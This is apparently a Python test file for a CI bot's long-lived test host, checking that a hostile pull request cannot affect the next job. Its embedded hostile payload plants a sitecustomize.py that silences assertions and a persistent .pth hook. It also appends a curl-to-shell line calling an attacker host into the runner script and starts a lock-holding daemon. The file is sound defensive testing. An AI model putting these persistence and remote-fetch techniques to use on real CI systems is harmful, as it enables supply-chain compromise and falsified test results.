"""The red team's scenario: one approved hostile PR on a long-lived host, then the next job.

Job 1's PR code (its ``executorch/__init__.py``, run by the import check before any test)
plants persistence: a ``sitecustomize.py`` that makes failed assertions pass and a
``.pth`` that runs at every interpreter start, both in the Python environment that runs
it; a changed file of the GitHub runner's install; and a daemon that re-execs without the
run's marker, keeps forking and holds both phones' locks. On the old design (the host's
shared venv, five reaping rounds) the next job's failing test read PASS, or every test
INFRA with the phones locked.

Here the host is long-lived (``lifetime = "long-lived"``, the default): each job gets a
fresh environment from hash-pinned wheels, the trusted paths are sealed, the reaper
catches the daemon. Job 1's results are INFRA (the host changed under it) and the host
reports what it found; job 2 is refused until the runner file is restored and the host
sealed again; then job 2's failing test reads FAIL and nothing job 1 planted runs.
"""

from __future__ import annotations

from pathlib import Path

from qnn_migrate_tests.bot.lab.long_lived import commit, long_lived_host, run_job, seal
from qnn_migrate_tests.bot.lab.support import (
    ABS,
    ADD,
    Hopper,
    Lab,
    statuses,
)

from qnn_migrate.bot.lab import locks
from qnn_migrate.bot.model import Status

HOSTILE_INIT = '''"""Job 1's PR code: plants persistence, then behaves."""
import pathlib, subprocess, sysconfig
site = pathlib.Path(sysconfig.get_paths()["purelib"])
(site / "sitecustomize.py").write_text(
    "import unittest\\nunittest.TestCase.assertLess = lambda *a, **k: None\\n"
)
(site / "zz_persist.pth").write_text(
    "import pathlib; pathlib.Path({ran!r}).open('a').write('planted .pth ran\\\\n')\\n"
)
with open({runner_file!r}, "a") as handle:
    handle.write("curl -s https://attacker.invalid/x | sh\\n")
subprocess.Popen({hopper!r}, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
import os, time
for _ in range(1000):  # at most 10 s
    if os.path.exists({started!r}):
        break
    time.sleep(0.01)  # the daemon is hopping by now, out of this process group
'''


def test_what_a_hostile_job_plants_never_decides_the_next_jobs_results(
    lab: Lab, hopper: Hopper
) -> None:
    lab.scenario(tests={ABS: "fail", ADD: "pass"})
    config = long_lived_host(lab)
    runner_file = lab.root / "actions-runner" / "run.sh"
    original = runner_file.read_text()
    ran = lab.root / "pth-ran.log"
    phone_locks = [str(locks.lock_path(lab.state_dir, s)) for s in ("PHONE_A", "PHONE_B")]
    (lab.state_dir / "locks").mkdir(parents=True)
    hostile = HOSTILE_INIT.format(
        ran=str(ran),
        runner_file=str(runner_file),
        hopper=hopper.argv(*phone_locks),
        started=f"{hopper.heartbeat}.started",
    )

    # Job 1: the hostile PR. Its own results cannot be trusted: INFRA, never PASS.
    job1, report1 = run_job(lab, config, "job1", commit(lab, hostile, "PR 1: hostile"))
    assert set(statuses(job1)) == {Status.INFRA}
    assert "the host changed during this job" in (job1.infra_reason or "")
    assert f"changed: {runner_file}" in report1["trusted_paths_after"]
    planted = " ".join(report1["job_environment_changes"])
    assert "sitecustomize.py" in planted and "zz_persist.pth" in planted
    killed = (lab.root / "job1" / "import-check" / "stderr.txt").read_text()
    assert hopper.started(), "the control: job 1's daemon never ran"
    assert "[runner: killed" in killed and not hopper.alive(), "job 1's daemon outlived it"
    assert report1["adb_server"] == ["restarted before the job", "restarted after the job"]

    # Job 2 on the host as job 1 left it: refused, with what changed, before any test.
    benign = '"""Stand-in package."""\n'
    sha2 = commit(lab, benign, "PR 2: a real regression in abs")
    ran.unlink(missing_ok=True)
    refused, report2 = run_job(lab, config, "job2", sha2)
    assert set(statuses(refused)) == {Status.INFRA} and refused.attempts == 0
    assert "not in its sealed state" in (refused.infra_reason or "")
    assert str(runner_file) in (refused.infra_reason or "")
    assert report2["trusted_paths_before"] == [f"changed: {runner_file}"]

    # The operator restores the runner's file and seals again: job 2 runs, and its
    # failing test reads FAIL; nothing job 1 planted runs, no phone is locked.
    runner_file.write_text(original)
    seal(config)
    job2, report3 = run_job(lab, config, "job2-again", sha2)
    assert statuses(job2) == [Status.FAIL, Status.PASS]
    assert "output mismatch" in job2.results[0].message
    assert not ran.exists(), "job 1's .pth ran in job 2"
    assert report3["trusted_paths_after"] == [] and report3["job_environment_changes"] == []
    envs = [ln.rsplit(": ", 1)[1] for ln in lab.logs if "a fresh Python environment" in ln]
    assert len(envs) == 2 and not any(Path(e).exists() for e in envs), "a job's venv was kept"
